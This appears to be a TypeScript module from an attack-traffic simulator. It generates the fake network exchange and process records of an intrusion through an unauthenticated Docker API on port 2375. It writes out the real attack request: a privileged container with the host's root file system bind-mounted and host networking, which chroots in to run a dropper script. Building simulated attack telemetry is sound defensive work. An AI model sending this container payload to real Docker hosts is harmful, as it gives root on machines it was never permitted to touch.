import { ROOT } from '../machine.ts'
import type { Act } from '../schedule.ts'
import type { Attempt } from './enter.ts'
import { ask, connectionTo, dropperLine, scriptBelow } from './service.ts'

const PORT = 2375
const IMAGES = ['alpine', 'alpine:latest', 'ubuntu:18.04', 'busybox', 'debian:stable-slim'] as const

/** The Docker API without a password: a container that holds the host's own file system, and a script in it. */
export function* throughDocker(attempt: Attempt): Act<boolean> {
  const { host, random } = attempt
  const { machine } = host
  const { tcp, srcPort } = connectionTo(attempt, PORT)
  const id = random.hex(64)
  const script = dropperLine(attempt)
  const image = random.pick(IMAGES)
  const wanted = {
    Image: image,
    Cmd: ['chroot', '/mnt', 'sh', '-c', script],
    HostConfig: { Binds: ['/:/mnt'], Privileged: true, NetworkMode: 'host' },
  }
  yield tcp.open(machine.nowMs)
  yield* ask(
    machine,
    tcp,
    get('/version'),
    json(200, { Version: '20.10.24', ApiVersion: '1.41', Os: 'linux' }),
    random,
  )
  yield* ask(machine, tcp, post('/containers/create', wanted), json(201, { Id: id, Warnings: [] }), random)
  yield* ask(
    machine,
    tcp,
    post(`/containers/${id}/start`, null),
    'HTTP/1.1 204 No Content\r\nServer: Docker/20.10.24 (linux)\r\n\r\n',
    random,
  )
  yield machine.nowMs + random.between(200, 900)
  attempt.admitted({ kind: 'docker-api', srcIp: attempt.srcIp, srcPort, user: ROOT.name })
  yield tcp.close('remote', machine.nowMs)
  const shim = {
    pid: machine.nextPid(),
    comm: 'containerd-shim',
    exe: '/usr/bin/containerd-shim-runc-v2',
    unit: `docker-${id}.scope`,
    cwd: '/',
  }
  yield* attempt.inside(scriptBelow(machine, ROOT, shim, script, random))
  return true
}

function get(path: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: docker\r\nUser-Agent: Go-http-client/1.1\r\n\r\n`
}

function post(path: string, body: unknown): string {
  const text = body === null ? '' : JSON.stringify(body)
  return `POST /v1.24${path} HTTP/1.1\r\nHost: docker\r\nUser-Agent: Go-http-client/1.1\r\nContent-Type: application/json\r\nContent-Length: ${text.length}\r\n\r\n${text}`
}

function json(status: 200 | 201, body: unknown): string {
  const text = `${JSON.stringify(body)}\n`
  const reason = status === 200 ? 'OK' : 'Created'
  return `HTTP/1.1 ${status} ${reason}\r\nApi-Version: 1.41\r\nContent-Type: application/json\r\nServer: Docker/20.10.24 (linux)\r\nContent-Length: ${text.length}\r\n\r\n${text}`
}
